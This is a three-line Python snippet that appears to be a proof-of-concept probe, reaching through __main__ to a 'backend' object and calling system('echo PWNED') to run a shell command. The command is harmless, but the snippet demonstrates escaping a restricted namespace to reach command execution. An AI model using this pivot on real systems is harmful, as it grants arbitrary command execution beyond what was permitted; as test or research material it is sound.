import __main__

__main__.backend.system("echo PWNED")
